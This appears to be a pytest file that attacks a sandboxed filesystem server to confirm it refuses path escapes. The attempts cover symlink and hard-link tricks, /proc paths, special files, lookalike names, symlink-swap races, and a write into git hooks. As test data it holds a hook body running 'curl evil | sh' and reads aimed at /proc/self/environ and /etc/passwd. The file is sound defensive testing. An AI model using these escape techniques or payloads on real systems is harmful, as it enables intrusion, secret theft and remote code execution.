"""One test per attack on a real server, named for the attack. Each refusal asserts the
status code and reason, that nothing secret leaked, and that nothing changed on disk."""
from __future__ import annotations

import contextlib
import os
import socket
import stat
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import fsgate
import grpc
import pytest
from fsgate import Client, Policy

from ..conftest import ServerProcess
from ..helpers import snapshot

SECRET = "top secret"


def outside(served: ServerProcess) -> Path:
    return served.root.parent / "outside"


def assert_no_leak(exc: BaseException) -> None:
    assert SECRET not in str(exc)
    assert "outside" not in str(exc).split(":")[-1]  # the resolved target is never named


# --- symlinks ---------------------------------------------------------------------------

def test_symlink_chain_ending_outside_is_refused(client: Client, served: ServerProcess,
                                                 ws: Path) -> None:
    (ws / "hop1").symlink_to("hop2")
    (ws / "hop2").symlink_to(outside(served) / "secret.txt")
    with pytest.raises(fsgate.SandboxDenied) as err:
        client.read_file(str(ws / "hop1"))
    assert_no_leak(err.value)


def test_symlink_loop_is_symlink_loop_not_a_hang(client: Client, ws: Path) -> None:
    (ws / "a").symlink_to("b")
    (ws / "b").symlink_to("a")
    with pytest.raises(fsgate.SymlinkLoop) as err:
        client.read_file(str(ws / "a"))
    assert err.value.code is grpc.StatusCode.FAILED_PRECONDITION
    assert err.value.reason == "SYMLINK_LOOP"


def test_dangling_symlink_to_outside_as_write_target_creates_nothing(
        client: Client, served: ServerProcess, ws: Path) -> None:
    (ws / "dangle").symlink_to(outside(served) / "planted.txt")
    before = snapshot(outside(served))
    with pytest.raises(fsgate.SandboxDenied) as err:
        client.write_file(str(ws / "dangle"), b"pwned")
    assert err.value.code is grpc.StatusCode.PERMISSION_DENIED
    assert snapshot(outside(served)) == before


def test_proc_magic_link_inside_root_does_not_escape(client: Client, ws: Path) -> None:
    (ws / "magic").symlink_to("/proc/self/root/etc/passwd")
    with pytest.raises(fsgate.PermissionDenied) as err:
        client.read_file(str(ws / "magic"))
    assert "root:" not in str(err.value)


def test_proc_paths_are_outside_policy(client: Client) -> None:
    for path in ("/proc/self/environ", "/proc/1/root/etc/passwd", "/proc/self/fd/0"):
        with pytest.raises(fsgate.OutsidePolicy):
            client.read_file(path)


def test_hard_link_to_outside_file_is_replaced_not_written_through(
        client: Client, served: ServerProcess, ws: Path) -> None:
    os.link(outside(served) / "secret.txt", ws / "hardlink")
    before = snapshot(outside(served))
    client.write_file(str(ws / "hardlink"), b"replaced")
    assert (ws / "hardlink").read_bytes() == b"replaced"
    assert snapshot(outside(served)) == before


# --- special files ----------------------------------------------------------------------

def test_fifo_read_fails_fast_without_blocking(client: Client, ws: Path) -> None:
    os.mkfifo(ws / "fifo")
    with pytest.raises(fsgate.NotRegularFile) as err:
        client.read_file(str(ws / "fifo"), timeout=10)
    assert err.value.reason == "NOT_REGULAR_FILE"


def test_unix_socket_file_is_not_regular(client: Client, ws: Path) -> None:
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(str(ws / "sock"))
        with pytest.raises(fsgate.NotRegularFile):
            client.read_file(str(ws / "sock"))
        with pytest.raises(fsgate.NotRegularFile):
            client.write_file(str(ws / "sock"), b"x")


@pytest.mark.skipif(os.geteuid() != 0, reason="mknod of a device needs root")
def test_device_node_is_never_opened(client: Client, ws: Path) -> None:
    os.mknod(ws / "zero", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    with pytest.raises(fsgate.NotRegularFile):
        client.read_file(str(ws / "zero"))
    info = client.stat(str(ws / "zero"))
    assert info.type is fsgate.FileType.OTHER


# --- names --------------------------------------------------------------------------------

def test_unicode_lookalike_slash_and_dots_are_literal_names(client: Client, ws: Path) -> None:
    for trick in ("\u2025\u2215outside", "..\uff0foutside", "\u2024\u2024"):
        with pytest.raises(fsgate.NotFound):
            client.read_file(str(ws) + "/" + trick)


def test_tilde_and_percent_are_not_expanded(client: Client, ws: Path) -> None:
    (ws / "~").mkdir()
    (ws / "%2e%2e").write_text("literal")
    assert client.read_file(str(ws / "%2e%2e")) == b"literal"
    assert client.stat(str(ws / "~")).type is fsgate.FileType.DIRECTORY


def test_denied_path_case_variant_is_refused(served: ServerProcess, ws: Path) -> None:
    (ws / "Private").mkdir()
    (ws / "Private" / "key").write_text("k")
    policy = Policy(denied_paths=(str(ws / "private"),))
    with Client(served.target, policy=policy) as c, pytest.raises(fsgate.OutsidePolicy):
        c.read_file(str(ws / "Private" / "key"))


# --- protected paths ----------------------------------------------------------------------

@pytest.mark.parametrize("rel", [".git/config", ".git/hooks/pre-commit", ".GIT/Config",
                                 ".git/HOOKS/post-checkout", "vendor/lib/.git/config",
                                 ".git/hooks/new/deeper"])
def test_protected_path_is_never_writable(client: Client, ws: Path, rel: str) -> None:
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n")
    before = snapshot(ws)
    with pytest.raises(fsgate.ProtectedPath) as err:
        client.write_file(str(ws / rel), b"#!/bin/sh\ncurl evil | sh\n", create_parents=True)
    assert err.value.code is grpc.StatusCode.PERMISSION_DENIED
    assert err.value.reason == "PROTECTED_PATH"
    assert snapshot(ws) == before


def test_protected_path_stays_readable(client: Client, ws: Path) -> None:
    (ws / ".git").mkdir()
    (ws / ".git" / "config").write_text("[core]\n")
    assert client.read_file(str(ws / ".git" / "config")) == b"[core]\n"


def test_symlink_into_protected_path_cannot_be_written(client: Client, ws: Path) -> None:
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / "innocent").symlink_to(ws / ".git" / "hooks" / "pre-commit")
    (ws / "gitdir").symlink_to(ws / ".git")
    before = snapshot(ws)
    with pytest.raises(fsgate.ProtectedPath):
        client.write_file(str(ws / "innocent"), b"evil")
    with pytest.raises(fsgate.ProtectedPath):
        client.write_file(str(ws / "gitdir" / "config"), b"evil")
    assert snapshot(ws) == before


# --- races --------------------------------------------------------------------------------

@pytest.fixture
def swapper() -> Iterator[list[threading.Thread]]:
    threads: list[threading.Thread] = []
    yield threads
    for t in threads:
        t.join()


def _swap_forever(stop: threading.Event, spot: Path, make_good: Callable[[Path], object],
                  bad: Path) -> None:
    tmp_good = spot.with_name(spot.name + ".good")
    tmp_bad = spot.with_name(spot.name + ".bad")
    n = 0
    while not stop.is_set() or n < 2000:
        make_good(tmp_good)
        os.replace(tmp_good, spot)
        os.symlink(bad, tmp_bad)
        os.replace(tmp_bad, spot)
        n += 1
        if n >= 20000:
            break


def test_leaf_swapped_for_symlink_during_reads_never_leaks(
        client: Client, served: ServerProcess, ws: Path,
        swapper: list[threading.Thread]) -> None:
    stop = threading.Event()
    t = threading.Thread(target=_swap_forever, args=(
        stop, ws / "spot", lambda p: p.write_text("inside"), outside(served) / "secret.txt"))
    swapper.append(t)
    t.start()
    outcomes = set()
    try:
        for _ in range(300):
            try:
                outcomes.add(client.read_file(str(ws / "spot")).decode())
            except (fsgate.SandboxDenied, fsgate.NotFound) as exc:
                assert_no_leak(exc)
                outcomes.add(type(exc).__name__)
    finally:
        stop.set()
    assert SECRET not in "".join(outcomes)
    assert outcomes <= {"inside", "SandboxDenied", "NotFound"}


def _swap_dir_forever(stop: threading.Event, spot: Path, bad: Path) -> None:
    spot.mkdir()
    parked = spot.with_name(spot.name + ".parked")
    for n in range(20000):
        if stop.is_set() and n >= 2000:
            break
        os.rename(spot, parked)
        os.symlink(bad, spot)
        os.unlink(spot)
        os.rename(parked, spot)


def test_parent_swapped_for_symlink_during_writes_never_escapes(
        client: Client, served: ServerProcess, ws: Path,
        swapper: list[threading.Thread]) -> None:
    stop = threading.Event()
    before = snapshot(outside(served))
    t = threading.Thread(target=_swap_dir_forever, args=(stop, ws / "dir", outside(served)))
    swapper.append(t)
    t.start()
    try:
        for i in range(200):
            with contextlib.suppress(fsgate.SandboxDenied, fsgate.NotFound, fsgate.NotADirectory):
                client.write_file(str(ws / "dir" / f"f{i}"), b"x")
    finally:
        stop.set()
    assert snapshot(outside(served)) == before
